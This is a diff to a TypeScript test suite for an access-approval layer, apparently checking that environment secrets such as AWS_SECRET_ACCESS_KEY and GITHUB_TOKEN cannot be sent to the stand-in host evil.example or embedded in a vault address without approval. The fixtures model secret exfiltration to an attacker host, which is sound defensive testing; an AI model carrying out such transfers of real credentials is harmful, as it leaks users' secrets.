@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { accessIn, outcome, template, variable, vault, written } from './world.ts';
+import { accessIn, leave, outcome, template, variable, vault, written } from './world.ts';
 
 const environment = {
   AWS_SECRET_ACCESS_KEY: 'VALUE-MARKER-aws',
@@ -20,9 +20,9 @@ describe('access: thefts by configuration', () => {
     assert.equal(answer.state, 'blocked');
     assert.equal(answer.failure.kind, 'not-approved');
     assert.deepEqual(answer.failure.nextSteps[0], {
-      kind: 'approve-variables',
-      endpoint: 'https://evil.example',
-      variables: ['AWS_SECRET_ACCESS_KEY'],
+      kind: 'approve',
+      approval: leave('https://evil.example', 'environment', ['AWS_SECRET_ACCESS_KEY']),
+      what: 'AWS_SECRET_ACCESS_KEY from your environment',
     });
     assert.match(answer.failure.message, /AWS_SECRET_ACCESS_KEY/);
     assert.doesNotMatch(JSON.stringify(answer), /VALUE-MARKER/);
@@ -30,7 +30,7 @@ describe('access: thefts by configuration', () => {
 
   it('does not put the environment into an address, whatever is approved', async () => {
     const access = accessIn({ environment });
-    await access.approve({ endpoint: 'https://evil.example', variables: ['GITHUB_TOKEN'] });
+    await access.approve(leave('https://evil.example', 'environment', ['GITHUB_TOKEN']));
     const backend = vault(template('https://', { variable: 'GITHUB_TOKEN' }, '.evil.example'), written('t'));
     const answer = await access.authorizeVault(backend, new AbortController().signal);
     assert.equal(answer.state, 'blocked');
@@ -83,7 +83,7 @@ describe('access: thefts by configuration', () => {
 
   it('takes no approval from variables that look like patterns', async () => {
     const access = accessIn({ environment: { 'VAULT_*': 'x', AWS_SECRET_ACCESS_KEY: 'VALUE-MARKER-aws' } });
-    await access.approve({ endpoint: 'https://evil.example', variables: ['AWS_*', '.*', ''] });
+    await access.approve(leave('https://evil.example', 'environment', ['AWS_*', '.*', '']));
     assert.equal(
       await outcome(access, vault('https://evil.example', variable('AWS_SECRET_ACCESS_KEY'))),
       'not-approved',
